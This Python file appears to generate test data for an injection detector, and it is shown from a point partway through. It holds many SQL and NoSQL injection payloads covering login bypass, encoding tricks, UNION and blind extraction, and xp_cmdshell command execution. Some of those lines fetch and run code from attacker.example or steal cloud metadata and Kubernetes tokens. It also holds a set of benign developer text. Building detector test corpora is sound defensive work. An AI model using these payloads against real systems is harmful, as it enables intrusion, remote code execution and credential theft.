    "x' and length(concat((select secret from webhooks limit 1),'x'))>33-- -",
]

# sql-authentication-bypass: login, token and API-key checks of JSON APIs turned into "any user"
AUTH: list[Entry] = [
    # Express login endpoint, JSON body, MySQL
    (doc({"email": "admin@example.org'-- -", "password": "x"}), *JB),
    (doc({"username": "admin' or '1'='1", "password": "' or '1'='1"}), *JB),
    (doc({"email": "' or 1=1 limit 1-- -", "password": "anything"}), *JB),
    (doc({"user": {"login": "admin'#", "password": "x"}}), *JB),
    # the comment opened in one field and closed in the next; target MySQL
    (doc({"username": "admin'/*", "password": "*/or '1'='1"}), *JB),
    # OAuth2 password grant at a token endpoint; target PostgreSQL
    (doc({"grant_type": "password", "username": "admin'--", "password": "x", "client_id": "cli"}), *JB),
    # form-encoded login to an Express body-parser endpoint; target MySQL
    ("username=admin'-- -&password=x", *KV),
    ("email=' or 1=1-- -&password=x", *KV),
    # a union-made user row whose md5 password hash the attacker knows (md5 of "x"); target MySQL
    "' union select 1,'admin','9dd4e461268c8034f5c8564e155c67a6'-- -",
    "admin' or '1'='1'-- -",
    "admin')-- -",
    'admin"-- -',
    "') or ('a'='a",
    "' or 1=1 and role='admin'-- -",
    "' or id=1-- -",
    "admin' #",
    # SQL Server (Azure SQL) login
    "admin' or 1=1 --",
    # Oracle login, first row only
    "admin' or 'a'='a' and rownum=1--",
    # PostgreSQL login
    "' or true limit 1--",
    # API-key lookup `where key = '<X-Api-Key>'`; target PostgreSQL
    ("' or 1=1--", "header:X-Api-Key", "rs-header:X-Api-Key"),
    # HTTP Basic credentials decoded and concatenated by a Go service; target MySQL
    (basic("admin' or '1'='1'-- -", "x"), "header:Authorization", "rs-header:Authorization"),
    # GraphQL login mutation; target PostgreSQL
    (gql("mutation($e: String!, $p: String!){ login(email: $e, password: $p){ token } }",
         {"e": "admin@example.org'--", "p": "x"}), *GQ),
    # password-reset token check; target MySQL
    (doc({"token": "' or 1=1-- -", "new_password": "Attacker#2024"}), *JB),
    # invitation / magic-link code check in a serverless function; target SQLite
    "' or code is not null--",
    # SSO callback looking the e-mail up by string concatenation; target SQL Server
    (doc({"email": "x' or is_admin=1--", "provider": "oidc"}), *JB),
    # tenant-scoped login, the tenant header closes the clause; target MySQL
    ("acme' or 1=1 or tenant='", *TH),
    # a comment swallows the password check after a nested parenthesis; target PostgreSQL
    "admin'))--",
    # the quote in a username the app escapes with a backslash, the backslash escaped instead; target MySQL
    "admin\\' or 1=1-- -",
]

# nosql-injection: MongoDB (and CouchDB) operators where a value was expected, and JavaScript in $where
NOSQL: list[Entry] = [
    # Express + Mongoose login, the JSON body passed straight to findOne(); target MongoDB
    (doc({"username": {"$ne": None}, "password": {"$ne": None}}), *JB),
    (doc({"username": "admin", "password": {"$gt": ""}}), *JB),
    (doc({"email": {"$regex": "^admin"}, "password": {"$exists": True}}), *JB),
    (doc({"username": {"$in": ["admin", "root", "administrator"]}, "password": {"$nin": [""]}}), *JB),
    # blind extraction of the password hash one prefix at a time
    (doc({"username": "admin", "password": {"$regex": "^\\$2b\\$1"}}), *JB),
    # list endpoint whose ?filter JSON goes to find(); target MongoDB Atlas
    (doc({"filter": {"$where": "sleep(5000) || true"}}), *JB),
    (doc({"filter": {"$expr": {"$gt": [{"$strLenCP": "$password"}, 0]}}}), *JB),
    (doc({"filter": {"$or": [{}, {"isAdmin": True}]}}), *JB),
    (doc({"filter": {"$expr": {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}}}), *JB),
    (doc({"filter": {"$where": "this.role == 'admin'"}}), *JB),
    # report endpoint that passes a client pipeline to aggregate(); target MongoDB
    (doc({"pipeline": [{"$lookup": {"from": "users", "localField": "ownerId", "foreignField": "_id", "as": "u"}}]}),
     *JB),
    (doc({"pipeline": [{"$unionWith": {"coll": "api_keys"}}]}), *JB),
    # GraphQL JSON scalar variable passed to find(); target MongoDB
    (gql("query($f: JSON){ users(filter: $f){ email } }", {"f": {"password": {"$ne": None}}}), *GQ),
    # webhook consumer upserting by the event's user id; target MongoDB
    (doc({"event": "user.updated", "user": {"id": {"$gt": ""}, "role": "admin"}}), *WH),
    # CouchDB Mango query endpoint (/_find) fed from the request; target CouchDB
    (doc({"selector": {"_id": {"$gt": None}}, "fields": ["_id", "password"]}), *JB),
    # string concatenated into a $where JavaScript expression (`this.name == '${q}'`); target MongoDB
    "'; return true; var x='",
    "' || '1'=='1",
    "a'; sleep(5000); var x='",
    "' || this.password.match(/^a/) || '",
    # numeric context in $where (`this.age > ${x}`); target MongoDB
    "1; return this.isAdmin == true",
    "1; while(true){}",
    # Express query parser (qs) turns brackets into operator objects; target MongoDB
    ("username[$ne]=x&password[$ne]=x", *KV),
    ("email[$regex]=.*&password[$gt]=", *KV),
    ("username=admin&password[$regex]=^p", *KV),
    ("q[$where]=sleep(5000)", *KV),
    # password-reset route with the token from the query string, matched with any value
    ("resetToken[$ne]=null", "param-name", "rs-param-name"),
    ("token[$exists]=true&email=admin@example.org", "param-name", "rs-param-name"),
    # a $where string hidden in a sort/search API
    ("search[$where]=function(){return this.apiKey.length>0}", *KV),
]

# hex/char encoding: strings written as hex, char() lists, unicode and JSON escapes instead of quotes
ENCODING: list[Entry] = [
    # Express + mysql2 with quotes escaped; target MySQL
    "x' union select 0x61646d696e,2-- -",
    "1' and user()=0x726f6f74406c6f63616c686f7374-- -",
    "1 or username=0x61646d696e",
    "x' union select unhex('61646d696e'),2-- -",
    "1' and hex(substr(database(),1,1))='61'-- -",
    "1' and substr(database(),1,1)=char(0x61)-- -",
    "x' union select x'61646d696e',2-- -",
    "x' union select b'0110000101100100',2-- -",
    "x' union select column_name,2 from information_schema.columns where table_name=0x7573657273-- -",
    "x' union select convert(0x726f6f74 using utf8mb4),2-- -",
    # node-postgres / SQLAlchemy; target PostgreSQL
    "x' union select chr(97)||chr(100)||chr(109)||chr(105)||chr(110),null--",
    "x' or username=convert_from(decode('61646d696e','hex'),'UTF8')--",
    "1 or username=$$admin$$",
    "x' or username=U&'\\0061dmin'--",
    "x' or username=E'\\x61dmin'--",
    # .NET API on Azure SQL; target SQL Server
    "x' union select char(97)+char(100)+char(109)+char(105)+char(110),null--",
    "x'; declare @q varchar(200)=0x73656c65637420404076657273696f6e; exec(@q);--",
    "x' or login=nchar(115)+nchar(97)--",
    "x';declare @s varchar(99);set @s=0x77616974666f722064656c617920273a303a3527;exec(@s);--",
    # Spring Data; target Oracle
    "x' union select chr(97)||chr(100)||chr(109),null from dual--",
    "x' or username=utl_raw.cast_to_varchar2(hextoraw('61646D696E'))--",
    # SQLite in a Lambda
    "x' union select char(97,100,109,105,110),null--",
    "x' or name=cast(x'61646d696e' as text)--",
    # JSON \u escapes: the API's JSON parser turns them into quotes and dashes before the query; target MySQL
    (r'{"email":"x\u0027 or 1=1-- -","password":"x"}', *JB),
    (r'{"id":"1\u0027 union select 1,@@version-- -"}', *JB),
    (r'{"filter":{"name":"\u0061dmin\u0027\u002d\u002d \u002d"}}', *JB),
    # GraphQL string literal with a \u0027 escape in the query text; target PostgreSQL
    (r'{"query":"{ user(id: \"1\u0027 or \u00271\u0027=\u00271\") { email } }"}', *GQ),
    # tenant header compared against a hex literal; target MySQL
    ("0x61636d65' or 1=1-- -", *TH),
]

# stored-procedure/xp_cmdshell: procedures that run commands, change accounts or reach the host
PROC: list[Entry] = [
    # .NET API on SQL Server (VM or container); target SQL Server
    "x'; exec master..xp_cmdshell 'whoami';--",
    "x'; exec sp_configure 'show advanced options',1;reconfigure;exec sp_configure 'xp_cmdshell',1;reconfigure;--",
    "1; exec xp_cmdshell 'powershell -c \"iwr http://attacker.example/a.ps1|iex\"'--",
    # SQL Server on an Azure VM: the managed identity token from the instance metadata service
    "x'; exec xp_cmdshell 'curl -H Metadata:true \"http://169.254.169.254/metadata/identity/oauth2/token"
    "?api-version=2018-02-01&resource=https://management.azure.com/\"';--",
    r"x'; exec master.dbo.xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\CurrentControlSet\Services\MSSQLSERVER',"
    r"'ObjectName';--",
    r"x'; declare @o int; exec sp_oacreate 'wscript.shell',@o out; exec sp_oamethod @o,'run',null,"
    r"'cmd /c whoami > c:\temp\o.txt';--",
    "x'; exec sp_addlogin 'svc_backup','P@ssw0rd1';exec sp_addsrvrolemember 'svc_backup','sysadmin';--",
    "x'; exec sp_executesql N'select * from sys.sql_logins';--",
    "x'; exec sp_linkedservers;--",
    "x'; exec('xp_cmdshell ''net user''');--",
    "x'; exec sp_msforeachtable 'select * from ?';--",
    "x'; exec xp_servicecontrol 'stop','MSSQLSERVER';--",
    # RDS MySQL procedures (the master user may call them); target MySQL
    "x'; call mysql.rds_kill_query(1);-- -",
    # MySQL with lib_mysqludf_sys loaded
    "x'; select sys_exec('id');-- -",
    "x'; create function sys_eval returns string soname 'lib_mysqludf_sys.so';-- -",
    # PostgreSQL: command execution through COPY FROM PROGRAM, a C function and plpython
    "x'; drop table if exists o; create table o(t text); copy o from program 'id';--",
    "x'; create function sys_exec(text) returns int as '/tmp/lib_sys.so','sys_exec' language c strict;--",
    "x'; do language plpython3u $$ import os; os.system('id') $$;--",
    # Oracle: PL/SQL through DBMS_XMLQUERY, Java and the scheduler
    "x'||dbms_xmlquery.newcontext('declare pragma autonomous_transaction; begin execute immediate "
    "''grant dba to public''; commit; end;')||'",
    "x' and (select dbms_java.runjava('oracle/aurora/util/Wrapper /bin/sh -c id') from dual) is not null--",
    "x'; begin dbms_scheduler.create_job(job_name=>'j',job_type=>'EXECUTABLE',job_action=>'/bin/sh',"
    "enabled=>true); end;--",
    # GraphQL variable; target SQL Server
    (gql("query($id: ID!){ report(id: $id){ rows } }", {"id": "1; exec master..xp_cmdshell 'hostname'--"}), *GQ),
    # nested JSON filter; target SQL Server
    (doc({"filter": {"status": "x'; exec xp_cmdshell 'type C:\\inetpub\\wwwroot\\web.config';--"}}), *JB),
    # CI/CD webhook consumer; target SQL Server
    (doc({"build": {"id": 9,
                    "branch": "x'; exec xp_cmdshell 'certutil -urlcache -f http://attacker.example/b.exe b.exe';--"}}),
     *WH),
    # tenant header; target SQL Server
    ("t1'; exec xp_cmdshell 'ping -n 5 attacker.example';--", *TH),
    # PostgreSQL on a Kubernetes pod: the service-account token with COPY FROM PROGRAM
    "x'; copy o from program 'cat /var/run/secrets/kubernetes.io/serviceaccount/token';--",
    # SQL Server: the Agent runs a command as a job step
    "x'; exec msdb..sp_add_jobstep @job_name='j',@step_name='s',@subsystem='CmdExec',@command='whoami';--",
]

# having/group-by/order-by probing: column counts, GROUP BY/HAVING errors and sort parameters after ORDER BY
ORDER: list[Entry] = [
    # string context in an Express + mysql2 search; column count; target MySQL
    "x' order by 1-- -",
    "x' order by 9-- -",
    "1 order by 3",
    "x' group by 1,2,3-- -",
    "x' group by password having 1=1-- -",
    # .NET API on SQL Server: HAVING errors name the selected columns one by one
    "1' having 1=1--",
    "x' group by users.id having 1=1--",
    "x' group by users.id,users.username having 1=1--",
    # sort parameter pasted after ORDER BY (knex.orderByRaw, TypeORM addOrderBy string); target MySQL
    "(case when (select substr(password,1,1) from users limit 1)='a' then name else email end)",
    "if((select count(*) from api_keys)>0,id,name)",
    "id,(select case when (1=1) then 1 else 1*(select 1 union select 2) end)",
    "1,(select 1 from (select count(*),concat(user(),floor(rand(0)*2))x from information_schema.tables group by x)y)",
    # the same on PostgreSQL (node-postgres, SQLAlchemy order_by(text(sort)))
    "(case when current_user='postgres' then name else email end)",
    "created_at asc nulls first,(select 1 from pg_sleep(5))",
    "(case when (select count(*) from pg_user)>1 then 1 else 1/0 end)",
    # Sequelize order array with a raw direction; target PostgreSQL
    (doc({"order": [["name", "asc,(select case when 1=1 then 1 else 1/0 end)"]]}), *JB),
    # GraphQL orderBy variable into raw SQL; target PostgreSQL
    (gql("query($o: String){ items(orderBy: $o){ id } }",
         {"o": "price desc,(select case when (select count(*) from users)>10 then 1 else 1/0 end)"}), *GQ),
    # Spring Data JpaSort.unsafe(sort) on a JPQL query; target PostgreSQL through Hibernate
    "case when (select substring(password,1,1) from User where id=1)='a' then name else email end",
    # Django QuerySet.order_by() with a dotted name (CVE-2021-35042); target MySQL
    "app_item.name);select updatexml(1,concat(0x7e,(select @@version)),1)#",
    # Prisma $queryRawUnsafe ORDER BY ${sort} with HAVING probes; target MySQL
    "1 having 1=1",
    "x' group by 1 having count(*)>1-- -",
    "x' order by if(1=1,1,(select 1 union select 2))-- -",
    # Spring Data; target Oracle
    "(case when (select user from dual)='SYS' then 1 else 2 end)",
    # .NET API; target SQL Server
    "(case when (select top 1 name from sys.databases)='master' then id else name end)",
    # ClickHouse analytics API, sort by a function with a side effect
    "timestamp desc,sleep(3)",
    # nested JSON sort object; target MySQL
    (doc({"sort": {"by": "(select 1 from (select sleep(5))s)", "order": "asc"}}), *JB),
    # JSON:API style sort list pasted after ORDER BY; target PostgreSQL
    "-created_at,(select 1 from pg_sleep(5))",
    # fields= parameter pasted into GROUP BY of a report endpoint; target MySQL
    "team,(select 1 from (select sleep(5))g)",
]

# like/between/in operators: the same probes written with LIKE, BETWEEN, IN, GLOB, REGEXP, SIMILAR TO
OPERATORS: list[Entry] = [
    # Express + mysql2; target MySQL
    "x' or username like '%-- -",
    "%' or '1' like '1",
    "x' or 1 between 0 and 2-- -",
    "x' or 1 in (1)-- -",
    "x' and (select password from users where username='admin') like 'a%'-- -",
    "x' and (select ascii(substr(password,1,1)) from users limit 1) between 97 and 109-- -",
    "x' and 'admin' in (select username from users)-- -",
    "x' or role in ('admin','owner')-- -",
    "x' and database() like 'prod%'-- -",
    "x' and (select count(*) from api_keys) not between 0 and 0-- -",
    "x' or email regexp '^.*@example.org$'-- -",
    # node-postgres / SQLAlchemy; target PostgreSQL
    "x' or email ilike '%@%'--",
    "x' and current_user like 'post%'--",
    "x' and (select token from api_tokens limit 1) similar to 'sk_%'--",
    "x' and (select length(token) from api_tokens limit 1) between 30 and 40--",
    "x' or id = any(array[1,2,3])--",
    # .NET API; target SQL Server
    "x' or name like '[a-z]%'--",
    "x' and (select top 1 name from sys.databases where database_id>4) like 'p%'--",
    "x' and db_name() between 'a' and 'm'--",
    # Spring Data; target Oracle
    "x' and (select user from dual) like 'APP%'--",
    "x' or 1 in (select 1 from dual)--",
    # SQLite in a Lambda
    "x' or name glob '*'--",
    "x' and (select sql from sqlite_master limit 1) like '%password%'--",
    # nested JSON filter operators mapped to SQL by a hand-written query builder; target MySQL
    (doc({"filter": {"name": {"like": "%' or 1=1-- -"}}}), *JB),
    (doc({"where": {"price": {"between": ["0", "1 or 1=1"]}}}), *JB),
    # JSON array of ids joined into IN (...) by a Go service; target PostgreSQL
    (doc({"ids": ["1", "2) or (1=1"]}), *JB),
    # GraphQL list variable joined into IN (...); target MySQL
    (gql("query($s: [String!]){ orders(statusIn: $s){ id } }", {"s": ["open')) or 1=1-- -"]}), *GQ),
    # tenant header matched with LIKE; target PostgreSQL
    ("%' or '1' like '%", *TH),
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYCOMMENT),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", ENCODING),
    ("sqli", "stored-procedure-xp-cmdshell", PROC),
    ("sqli", "having-group-order-by-probing", ORDER),
    ("sqli", "like-between-in-operators", OPERATORS),
]
# fixed `name=value` entries of these sub-families go unquoted (Express/qs bracket operators, form logins)
RAW_KV_SUBS = {"nosql-injection", "sql-authentication-bypass"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    unique = True
    fit_fixed = True
    kv_safe = "=&[]._-:/'*$!(),;{}~@^\\"
    raw_places = ("form", "param-name", "rs-param-name")
    names = ["filter", "sort", "id", "q", "orderBy", "fields", "where", "tenant", "search", "cursor"]
    rs_names = ["filter", "sort", "q", "id", "where", "orderBy", "fields", "cursor"]
    rs_paths = ["/api/v1/orders", "/graphql", "/v2/products/search", "/", "/webhooks/stripe", "/search",
                "/api/v1/items", "/2015-03-31/functions/orders/invocations"]
    real_cycle = ("query", "json", "form", "header:X-Tenant-ID", "cookie", "param-name", "xml", "multipart-field",
                  "path", "header:User-Agent", "header:Referer", "header:X-Api-Version")
    rs_cycle = ("rs-query", "rs-json", "rs-form", "rs-header:X-Tenant-ID", "rs-xml", "rs-raw-body",
                "rs-header:User-Agent", "rs-header:Referer", "rs-cookie", "rs-param-name")

    def fits(self, place: str, v: str) -> bool:
        """Headers, cookies and the path need a printable single-line ASCII value (the path: one segment, no query
        or fragment); a raw form-typed body needs `name=value`; XML no control characters but newline and tab."""
        if place == "path":
            return super().fits(place, v) and "/" not in v and "?" not in v and "#" not in v
        if place == "rs-raw-body":
            return "=" in v and header_safe(v)
        if place in ("xml", "rs-xml"):
            return all(ch >= " " or ch in "\n\t" for ch in v)
        return super().fits(place, v)

    def _p_rs_graphql(self, p: Put) -> Record:
        """A GraphQL request as a suite posts it to the conventional endpoint."""
        return request("POST", "/graphql", p.v, "application/json")

    def _p_rs_webhook(self, p: Put) -> Record:
        """A webhook event as a suite posts it to a receiver, with the sender's delivery headers."""
        return request("POST", "/webhooks/events", p.v, "application/json", **{
            "X-GitHub-Event": "push", "X-GitHub-Delivery": "72d3162e-cc78-11e3-81ab-4c9367dc0958"})


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: backend and platform engineers typing the same words innocently (Slack chat about API design, GraphQL
# schemas, filters, ORM migrations, Kubernetes manifests, CI pipelines and webhook payloads; bios; searches for
# colleagues by team or service; links to API docs and dashboards; quoted errors; export and manifest file names)
CHAT = [
    # API design
    "proposal for the orders API: GET /v2/orders?filter[status]=open&sort=-created_at&page[size]=50",
    "can we agree on `sort=-created_at,name` instead of `orderBy=created_at&order=desc`? JSON:API does it that way",
    "the `fields` param should be a comma list: ?fields=id,name,email",
    "reminder: cursor pagination only, no offset. the cursor is opaque base64, don't parse it client-side",
    "PATCH /v1/users/{id} returns 200 with the whole object, PUT is gone since 2023",
    "for the search endpoint let's support `q` plus `filter[team]=platform`, nothing fancier for now",
    "422 on POST /api/users when email is missing, body is {\"error\":\"email is required\"}",
    "the gateway returns 429 with Retry-After: 30, please back off instead of hammering it",
    "between you and me the v1 endpoints should have been deleted a year ago",
    "we return 404 not 403 for other tenants' resources, so nobody can enumerate ids",
    # GraphQL
    "schema change: `type Order { id: ID! total: Money! items(first: Int, after: String): ItemConnection! }`",
    "the dashboard query is `query Orders($first: Int!) { orders(first: $first, orderBy: {field: CREATED_AT, "
    "direction: DESC}) { edges { node { id total } } } }`",
    "we should use a union type for SearchResult = User | Team | Service, the client can switch on __typename",
    "persisted queries are on in prod, so ad-hoc queries from curl will get PERSISTED_QUERY_NOT_FOUND",
    "dataloader fixed the N+1: one `select * from teams where id in (...)` per request instead of 50",
    "GraphQL variables go in the JSON body as {\"variables\": {\"id\": \"42\"}}, not in the query string",
    # SQL and ORMs
    "heads up: never use $queryRawUnsafe, the tagged template $queryRaw parameterises for you",
    "Sequelize tip: `order: [['createdAt', 'DESC']]` and `where: { status: { [Op.in]: ['open', 'pending'] } }`",
    "TypeORM migration generated `ALTER TABLE \"order\" ADD \"archived_at\" TIMESTAMP`, the quotes are because "
    "order is a keyword",
    "SQLAlchemy 2.0: text() still works but bind params with :name, don't f-string it",
    "Django folks: .extra() is deprecated-ish, use annotate() with F() and Q() objects",
    "slow query of the day: `SELECT count(*) FROM events WHERE created_at > now() - interval '1 day'` takes 9s "
    "on the replica",
    "added the index: CREATE INDEX CONCURRENTLY idx_orders_tenant_created ON orders (tenant_id, created_at DESC);",
    "the report does GROUP BY team HAVING count(*) > 5, that's why small teams vanish from the chart",
    "use `WHERE email ILIKE 'ann%'` for the admin search, the citext migration isn't done yet",
    "prisma migrate deploy failed with P3009, a previous migration is marked as failed in _prisma_migrations",
    "the union all in the billing view was the bug, it double counted refunds",
    "pg_dump of staging is in the bucket, restore with pg_restore --no-owner",
    "sleep(5) in the integration test is why CI takes forever, use a proper wait-for-it",
    "the MySQL 8 upgrade broke GROUP BY on the legacy report (ONLY_FULL_GROUP_BY), fixing it today",
    "ALTER TABLE users DROP COLUMN legacy_token; has been in the migration queue for two sprints",
    "Mongo filter the UI sends: {\"status\": {\"$in\": [\"open\", \"pending\"]}, \"tenantId\": \"acme\"}",
    "the aggregation with $lookup into teams is 3x faster after the compound index",
    "we store the tenant in the X-Tenant-ID header and the middleware scopes every query by it",
    # Kubernetes and cloud
    "kubectl rollout restart deploy/orders-api -n payments fixed the stuck pods",
    "resources:\n  limits:\n    memory: 512Mi\n    cpu: 500m\n  requests:\n    memory: 256Mi",
    "the readinessProbe hits /healthz every 10s, the liveness probe /livez",
    "HPA scaled orders-api to 14 replicas during the sale, max is 20",
    "helm upgrade --install search ./charts/search -f values-prod.yaml --atomic",
    "IRSA is set up, the pod gets S3 access from its service account, no keys in env vars please",
    "the lambda cold start is 1.8s because of the Prisma engine, looking at the data proxy",
    "terraform plan shows 3 to add, 1 to change, 0 to destroy for the RDS parameter group",
    "Aurora failover took 35s, the app reconnected fine",
    "the ingress annotation nginx.ingress.kubernetes.io/proxy-body-size: 10m is why uploads fail above 10 MB",
    "who owns the elasticsearch cluster? the _search queries from the catalog service time out",
    # CI and webhooks
    "the GitHub webhook payload has `ref: refs/heads/main` and `repository.full_name`, that's all the deployer needs",
    "Stripe sends invoice.paid and we ack with 200 before processing, the worker picks it from the queue",
    "CI step: `npm ci && npm run lint && npm test -- --runInBand`",
    "the pipeline failed at `docker build`: COPY failed: file not found in build context",
    "webhook retries: GitLab gives up after 4 failures and disables the hook, check the Integrations page",
    "we verify X-Hub-Signature-256 with the shared secret before touching the body",
    "the PDF renderer (headless Chrome) times out on reports with more than 2000 rows",
    "Next.js getServerSideProps calls /api/orders with the user's cookie, that's why it shows up in the gateway logs",
    # errors and status
    "prod error: `ERROR: duplicate key value violates unique constraint \"users_email_key\"`",
    "seeing `ER_LOCK_WAIT_TIMEOUT: Lock wait timeout exceeded; try restarting transaction` on the batch job",
    "the 502s were the upstream, nginx says `upstream prematurely closed connection`",
    "SQLSTATE[42S22]: Column not found: 1054 Unknown column 'team_id' in 'where clause' after the rename",
    "`MongoServerError: E11000 duplicate key error collection: app.users index: email_1`",
    # bios
    "Platform engineer. Kubernetes, Terraform, too much YAML. Ask me about the gateway or the CI runners",
    "Backend dev on the orders team (Go, Postgres). Opinions about pagination available on request",
    "SRE, on call this week. If the dashboard is red, ping #incidents not me directly",
    "Data engineer: ClickHouse, dbt and the occasional 400-line SELECT with more CTEs than sense",
    "API design guild lead. GraphQL at the edge, REST underneath, JSON everywhere",
    "DBA for the MySQL and Aurora fleet. Yes, I will review your migration. No, not on Friday",
    "Node/Express and Prisma, ex-Rails. Writes the webhook consumers and the Stripe integration",
    "Search team: Elasticsearch and Solr, relevance tuning, synonyms and the like",
    "FastAPI + SQLAlchemy, maintaining the reporting service and its GROUP BY monsters",
    "Cloud security engineer, IAM policies and secrets rotation, formerly pentesting",
]

SEARCHES = [
    "platform", "payments-api", "orders team", "graphql", "sre", "o'connor", "data eng", "search team",
    "union", "select", "Union Pacific", "kubernetes", "k8s", "helm", "lambda", "webhooks", "ci", "dba",
    "postgres", "mysql", "mongo", "aurora", "clickhouse", "elastic", "sort", "order", "filter", "where",
    "api guild", "gateway", "d'souza", "on-call", "between", "like", "sleep", "group", "having", "admin",
    "prisma", "sequelize", "typeorm", "django", "fastapi", "spring boot", "nextjs",
]

URLS = [
    "https://docs.github.com/en/webhooks/webhook-events-and-payloads",
    "https://www.prisma.io/docs/orm/prisma-client/using-raw-sql/raw-queries",
    "https://sequelize.org/docs/v6/core-concepts/raw-queries/",
    "https://docs.sqlalchemy.org/en/20/core/sqlelement.html#sqlalchemy.sql.expression.text",
    "https://typeorm.io/select-query-builder",
    "https://kubernetes.io/docs/concepts/workloads/controllers/deployment/",
    "https://graphql.org/learn/queries/",
    "https://www.mongodb.com/docs/manual/reference/operator/query/",
    "https://www.postgresql.org/docs/current/functions-datetime.html",
    "https://dev.mysql.com/doc/refman/8.0/en/group-by-handling.html",
    "https://jsonapi.org/format/#fetching-sorting",
    "https://api.example.com/v2/orders?filter[status]=open&sort=-created_at&fields[orders]=id,total",
    "https://grafana.example.com/d/api-latency/api-latency?orgId=1&var-service=orders-api&from=now-6h&to=now",
    "https://console.aws.amazon.com/lambda/home?region=eu-west-1#/functions/orders-webhook",
    "https://github.com/example/orders-api/actions/runs/9518233412",
    "https://docs.stripe.com/webhooks",
    "https://fastapi.tiangolo.com/tutorial/sql-databases/",
    "https://docs.djangoproject.com/en/5.0/ref/models/querysets/#order-by",
    "https://www.elastic.co/guide/en/elasticsearch/reference/current/query-dsl-query-string-query.html",
    "https://nextjs.org/docs/app/building-your-application/data-fetching",
]

PROSE = [
    "platform team", "orders-api owners", "Ann O'Connor", "on-call SRE this week", "graphql gateway",
    "dba rota", "data engineering", "api design guild", "search relevance", "ci runners",
    "kubernetes upgrade working group", "Stripe integration", "webhook consumers", "billing (union street office)",
    "team select", "users in payments", "Sean D'Arcy", "aurora migration", "between jobs", "like-for-like review",
    "sleep study volunteers", "order desk", "group leads", "having trouble logging in", "admin@example.org",
    "ops@example.org", "postgres guild", "mongo atlas owners", "helm chart maintainers", "lambda cost review",
]

PROFILES = [
    ("Ana Union", "Rua das Flores 8, Porto"),
    ("Select Cloud GmbH", "Friedrichstr. 68, Berlin"),
    ("Liam O'Connor", "Harcourt St 12, Dublin"),
    ("Kubernetes Meetup Oslo", "Karl Johans gate 5, Oslo"),
    ("Order & Chaos Consulting", "Bridge St 3, Manchester"),
    ("Group Therapy Studio", "Rue Oberkampf 40, Paris"),
    ("Having A Ball Events", "Collins St 200, Melbourne"),
    ("Between Clouds Ltd", "Sky Tower, Auckland"),
    ("Like Minded Devs", "Mission St 500, San Francisco"),
    ("Sleepy Hollow Bakery", "Main St 1, Tarrytown"),
    ("Lambda Labs Coworking", "Keizersgracht 100, Amsterdam"),
    ("Helm & Anchor Marine", "Harbour Rd 9, Plymouth"),
    ("Delete Me Not Florist", "Via Roma 17, Torino"),
    ("Table Mountain Tours", "Long St 88, Cape Town"),
    ("Index Capital", "Bahnhofstrasse 10, Zürich"),
    ("Chinedu D'Almeida", "Allen Ave 21, Lagos"),
    ("Schema Architects", "Vesterbrogade 30, Copenhagen"),
    ("Cursor Design Studio", "Shoreditch High St 110, London"),
    ("Filter Coffee Co", "Indiranagar 100ft Rd, Bengaluru"),
    ("Null Island Surf Shop", "Praia Grande 2, Sintra"),
]

UPLOAD_NAMES = [
    "orders-export-2024-06.csv", "values-prod.yaml", "deployment.yaml", "schema.graphql",
    "0007_add_orders_tenant_index.sql", "schema.prisma", "webhook-sample-invoice.paid.json", "k8s-manifests.tar.gz",
    "openapi.yaml", "grafana-dashboard-api-latency.json", "users (platform team).xlsx", "pg_dump-staging-0612.sql.gz",
    "mongo-export-orders.json", "helm-chart-search-1.4.2.tgz", "ci-pipeline.gitlab-ci.yml", "Dockerfile.txt",
    "incident-2024-06-11-aurora-failover.pdf", "O'Connor-onboarding.pdf", "select-union-benchmark.csv",
    "group-by-report-q2.xlsx", "terraform-plan-rds.txt", "clickhouse-events-sample.tsv",
    "api-design-guidelines-v3.pdf", "lambda-cold-start-results.png", "postman-collection-orders.json",
]

BENIGN_HEADERS = [
    ("User-Agent", "axios/1.7.2"),
    ("User-Agent", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"),
    ("User-Agent", "okhttp/4.12.0"),
    ("User-Agent", "Go-http-client/2.0"),
    ("User-Agent", "python-httpx/0.27.0"),
    ("User-Agent", "Apache-HttpClient/5.3.1 (Java/17.0.11)"),
    ("User-Agent", "GitHub-Hookshot/8a5c2f1"),
    ("User-Agent", "Stripe/1.0 (+https://stripe.com/docs/webhooks)"),
    ("User-Agent", "kube-probe/1.29"),
    ("Referer", "https://app.example.com/orders?sort=-created_at&filter%5Bstatus%5D=open"),
    ("Referer", "https://grafana.example.com/d/api-latency/api-latency?orgId=1&var-service=orders-api"),
    ("Referer", "https://studio.apollographql.com/sandbox/explorer"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Tenant-ID", "acme-eu-1"),
    ("X-Request-ID", "0f8b6c2e-7a51-4d7b-9a0e-3c5f1e2d4b6a"),
    ("X-Amzn-Trace-Id", "Root=1-667a1b2c-3d4e5f60718293a4b5c6d7e8"),
    ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
    ("Accept", "application/graphql-response+json, application/json;q=0.9"),
    ("Prefer", "return=representation"),
    ("If-None-Match", "W/\"a1b2-18f0c3d4e5\""),
    ("Cookie", "session=abc123; sort=-created_at; page_size=50"),
    ("Cookie", "session=abc123; last_filter=team%3Aplatform; theme=dark"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
